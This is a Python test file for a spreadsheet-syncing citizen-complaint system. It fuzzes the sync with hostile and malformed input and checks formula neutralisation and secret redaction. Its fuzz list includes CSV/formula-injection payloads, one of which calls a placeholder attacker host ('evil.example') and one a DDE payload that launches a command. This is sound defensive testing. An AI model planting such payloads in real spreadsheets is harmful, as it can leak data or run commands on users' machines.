"""Hostile and broken input, end to end: whatever a citizen types or an operator enters,
the cycle finishes, good rows are numbered, bad rows are reported, and nothing is
evaluated as a formula or lost."""

from __future__ import annotations

import json
import os
import tempfile
from datetime import datetime, timedelta
from pathlib import Path

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from siapmas_sync.dasbor.layout import TAB as DASBOR_TAB, warning_formula
from siapmas_sync.documents.buku_agenda import neutralise_formula
from siapmas_sync.core.kendali_sheet import KENDALI_TAB

from .clirun import run_cli
from .conftest import WIB, Clock
from .worlds import LocalWorld, rows_as_dicts

T0 = datetime(2026, 11, 27, 9, 0, tzinfo=WIB)

nasty_text = st.one_of(
    st.text(min_size=0, max_size=300),
    st.sampled_from([
        '=IMPORTXML("http://evil.example","//a")', "+62 812", "-1+1", "@SUM(A1)", "\t=1+1", "\r=cmd|' /C calc'!A0",
        "‮ RTL override ‬", "a\u200bb\u200dc", "e\u0301\u0302\u0303", "\x00\x07\x1b[31m", "\ud800 lone", "🙏🏽👨‍👩‍👧",
        "“kutip”‘’", "مرحبا بالعالم", "你好世界", "x" * 100_000,
    ]),
)
timestamps = st.one_of(
    st.datetimes(min_value=datetime(2020, 1, 1), max_value=datetime(2030, 12, 31)).map(lambda d: d.strftime("%d/%m/%Y %H.%M.%S")),
    st.sampled_from(["", "31/02/2026 10.00.00", "13/13/2026 10.00.00", "kemarin", "45000.5", "2099/01/01 1:00:00 AM GMT+7",
                     "2026-11-28T10:00:00+07:00", "=NOW()"]),
)
row = st.lists(st.one_of(nasty_text, timestamps), min_size=0, max_size=8).flatmap(
    lambda tail: timestamps.map(lambda ts: [ts] + tail)
)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(rows=st.lists(row, min_size=1, max_size=4))
def test_any_response_rows_never_break_a_cycle(rows: list[list[str]]) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        world = LocalWorld(Path(tmp), Clock(datetime(2026, 11, 28, 14, 0, tzinfo=WIB)))
        try:
            world.add_responses(rows)
            report = world.engine().cycle()
            numbered = [r for r in world.responses() if r.get("No. Agenda") and r.get("Tahap") not in ("DUPLIKAT",)]
            assert len(numbered) == len(report.new)
            assert len({r["No. Agenda"] for r in numbered}) == len(numbered)  # one number each
            assert [e.row for e in report.row_errors] == sorted(e.row for e in report.row_errors)
            assert not report.render_errors
            # what the worker wrote is data, never a formula — but the Dasbor's own warning formula
            wb = openpyxl.load_workbook(world.register)
            for ws in wb.worksheets:
                for line in ws.iter_rows():
                    for cell in line:
                        if (ws.title, cell.coordinate) == (DASBOR_TAB, "B5"):
                            assert cell.value == warning_formula().text
                            continue
                        assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
            again = world.engine().cycle()
            assert again.new == [] and again.cells_written == 0
        finally:
            world.close()


# what can be typed into a cell (no control characters or lone surrogates)
edit_value = st.one_of(st.text(st.characters(blacklist_categories=("Cc", "Cs")), max_size=60), st.sampled_from([
    "PARAF KASUBAG TU", "SELESAI", "DITOLAK", "DIKEMBALIKAN", "PERLU KELENGKAPAN", "Komisi 3", "BK", "Komisi IX",
    "Segera", "rahasia", "TRUE", "ya", "=1+1", "",
]))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(edits=st.lists(st.fixed_dictionaries({}, optional={
    "Tahap": edit_value, "Diteruskan ke": edit_value, "Sifat": edit_value, "Rahasia": edit_value, "Catatan": edit_value,
}), min_size=1, max_size=3))
def test_any_operator_edit_is_applied_or_answered_never_lost(edits: list[dict[str, str]]) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        clock = Clock(datetime(2026, 11, 30, 9, 0, tzinfo=WIB))
        world = LocalWorld(Path(tmp), clock)
        try:
            world.add_responses([[T0, "Ani", "081234567890", "ani@example.com",
                                  "Jalan rusak di Desa Kemlagi sejak Oktober 2026, berlubang di depan balai desa.", ""]])
            engine = world.engine()
            engine.cycle()
            for cells in edits:
                if not cells:
                    continue
                clock.now += timedelta(minutes=3)
                before = {c: v for c, v in rows_as_dicts(world.tab(KENDALI_TAB))[0].items()}
                world.edit(KENDALI_TAB, "0001/SIAPMAS/2026", **{k.replace(" ", "_"): v for k, v in cells.items()})
                n_events = len(engine.ledger.event_rows())
                report = engine.cycle()
                row = rows_as_dicts(world.tab(KENDALI_TAB))[0]
                changed = any(str(before.get(k) or "").strip() != str(v).strip() for k, v in cells.items())
                if report.steps:
                    assert row["Pesan"], "an edit must be answered in Pesan"
                    assert len(engine.ledger.event_rows()) > n_events or report.steps[0].accepted
                    assert row["Tahap"] == engine.ledger.item_rows()[0].tahap  # the sheet shows the truth
                elif changed:
                    # no step means the edit was a no-op in canonical form (e.g. spacing)
                    assert row["Tahap"] == engine.ledger.item_rows()[0].tahap
        finally:
            world.close()


def test_formula_prefixes_are_neutralised_in_exports():
    for text in ("=1+1", "+62", "-x", "@A1", "\t=1", "\r=1"):
        assert neutralise_formula(text).startswith("'")
    assert neutralise_formula("biasa") == "biasa"


def test_secrets_and_contact_details_never_reach_output(tmp_path: Path):
    """Key material and reporters' contact details stay out of logs, errors and --json."""
    from .google_standin.server import GoogleStandin
    from .worlds import SA_EMAIL, GoogleWorld

    with GoogleStandin() as standin:
        world = GoogleWorld(tmp_path, Clock(datetime(2026, 11, 28, 14, 0, tzinfo=WIB)), standin)
        world.add_responses([[T0, "Ani", "0812-3456-7890", "ani.rahasia@example.com",
                              "Jalan rusak di Desa Kemlagi sejak Oktober 2026, berlubang di depan balai desa.", ""]])
        key = json.loads(world.key_path.read_text())
        env = {"SIAPMAS_LOG_LEVEL": "DEBUG"}
        outputs = []
        for args in (["sync", "--json"], ["status", "--json"], ["show", "1", "--json"], ["doctor"]):
            r = run_cli(world.config, *args, env=env)
            outputs.append(r.stdout + r.stderr)
        standin.revoke_key(SA_EMAIL)
        r = run_cli(world.config, "sync", env=env)
        outputs.append(r.stdout + r.stderr)
        blob = "\n".join(outputs)
        secret_body = key["private_key"].splitlines()[1]
        assert secret_body not in blob and "PRIVATE KEY" not in blob and key["private_key_id"] not in blob
        for token in standin_tokens(standin):
            assert token not in blob
        log_lines = "\n".join(line for line in blob.splitlines() if any(f" {lvl} " in line for lvl in ("DEBUG", "INFO", "WARNING", "ERROR")))
        assert log_lines  # DEBUG logging really ran
        assert "ani.rahasia@example.com" not in log_lines and "3456-7890" not in log_lines and "81234567890" not in log_lines
        world.close()
        # files holding personal data are private to the worker's user
        if os.name == "posix":
            for p in (tmp_path / "var" / "siapmas.db", tmp_path / "var" / "output"):
                assert p.stat().st_mode & 0o077 == 0, p


def standin_tokens(standin: object) -> list[str]:
    tokens = getattr(standin, "tokens", None) or getattr(getattr(standin, "auth", None), "tokens", None) or {}
    return [t for t in tokens if isinstance(t, str) and len(t) > 8]


def test_ledger_events_table_is_append_only_in_practice(tmp_path: Path):
    """History is never rewritten: a later cycle only appends events."""
    world = LocalWorld(tmp_path, Clock(datetime(2026, 11, 28, 14, 0, tzinfo=WIB)))
    world.add_responses([[T0, "Ani", "081234567890", "", "Jalan rusak di Desa Kemlagi sejak Oktober 2026, berlubang.", ""]])
    engine = world.engine()
    engine.cycle()
    first = engine.ledger.event_rows()
    world.edit(KENDALI_TAB, "0001/SIAPMAS/2026", Tahap="PARAF KASUBAG TU")
    engine.cycle()
    later = engine.ledger.event_rows()
    assert later[: len(first)] == first and len(later) > len(first)
    world.close()
